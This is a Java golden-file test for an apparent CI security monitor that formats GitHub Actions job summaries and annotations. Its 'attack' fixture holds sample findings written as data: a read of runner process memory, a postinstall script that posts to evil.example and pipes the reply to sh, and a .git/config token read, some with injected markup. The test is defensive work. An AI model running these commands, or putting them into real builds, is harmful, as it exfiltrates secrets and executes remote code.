package eyas.github;

import eyas.ci.agent.AgentTermination;
import eyas.ci.outcome.JobOutcome;
import eyas.ci.outcome.OutcomeText;
import eyas.ci.outcome.RuleFinding;
import eyas.ci.outcome.RuleFinding.Place;
import eyas.ci.outcome.RuleFindings;
import eyas.github.runner.Annotations;
import eyas.report.model.Verdict;
import eyas.rules.model.Priority;
import eyas.testsupport.Golden;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** Compares the job summary and the annotations with golden files. */
final class SummaryGoldenTest {
    private static final Golden GOLDEN = Golden.in("ci/github/src/test/golden/summary");
    private static final long NOON = 1_795_608_187_412_000_000L;

    private static RuleFinding finding(Priority priority, String rule, long count, Place place, String message) {
        return new RuleFinding(rule, priority, count, "2026-11-25T12:03:07.412Z", message, place);
    }

    private static Place step(String step, String action, String ref, String name, String script) {
        return new Place(step, action, ref, name, script, "high");
    }

    /** A job with full coverage and no findings. */
    static JobOutcome clean() {
        return new JobOutcome(
                new AgentTermination.Clean(),
                "",
                RuleFindings.none(),
                12_345,
                0,
                List.of(),
                Verdict.CLEAN,
                true,
                Optional.empty());
    }

    private static JobOutcome attack() {
        return new JobOutcome(
                new AgentTermination.Clean(),
                "",
                new RuleFindings(
                        List.of(
                                finding(
                                        Priority.CRITICAL,
                                        "Runner Memory Read",
                                        2,
                                        step("__tj-actions_changed-files", "tj-actions/changed-files", "v45", "", ""),
                                        "python3 read /proc/1723/mem (Runner.Worker); command=python3 - parent=sudo"),
                                finding(
                                        Priority.ERROR,
                                        "Unexpected Program in a Package Script",
                                        1,
                                        step("__run_3", "", "", "@evil/left", "postinstall"),
                                        "curl -sm 0.5 -d @- https://evil.example/upload | sh # <b>@team</b> #1"),
                                finding(
                                        Priority.WARNING,
                                        "Git Token Read",
                                        41,
                                        new Place("", "", "", "", "", ""),
                                        "cat read .git/config\n::error::forged")),
                        44,
                        0),
                1_234_567,
                0,
                List.of(),
                Verdict.CLEAN,
                true,
                Optional.empty());
    }

    private static JobOutcome many() {
        List<RuleFinding> findings = new ArrayList<>();
        for (int i = 1; i <= 60; i++) {
            findings.add(finding(
                    i <= 3 ? Priority.ERROR : Priority.WARNING,
                    "Rule " + i,
                    5,
                    step("__run_" + i, "", "", "", ""),
                    "opened /marked-" + i));
        }
        return new JobOutcome(
                new AgentTermination.Clean(),
                "",
                new RuleFindings(findings, 300, 2),
                98_765,
                12,
                List.of(),
                Verdict.INCOMPLETE,
                false,
                Optional.empty());
    }

    static Stream<Arguments> outcomes() {
        return Stream.of(
                Arguments.of("clean", clean()),
                Arguments.of("attack", attack()),
                Arguments.of(
                        "killed",
                        new JobOutcome(
                                new AgentTermination.Killed(NOON, 9, 4711, "pkill", "__run_3"),
                                "",
                                RuleFindings.none(),
                                4_000,
                                0,
                                List.of(
                                        "process 4700 (bash) of step __run_2 sent the agent signal 15, which it ignored"),
                                Verdict.INCOMPLETE,
                                false,
                                Optional.empty())),
                Arguments.of(
                        "not-monitored",
                        JobOutcome.notMonitored(
                                "BPF needs root, and sudo -n does not work here: run the job as root, or"
                                        + " let the runner's user have sudo")),
                Arguments.of("many", many()));
    }

    @ParameterizedTest
    @MethodSource("outcomes")
    void summaryMatchesGoldenFile(String name, JobOutcome outcome) throws Exception {
        String text = OutcomeText.markdown(outcome) + "<!-- annotations\n"
                + String.join("\n", Annotations.lines(OutcomeText.annotations(outcome))) + "\n-->\n";
        GOLDEN.text(name + ".md", text);
    }
}
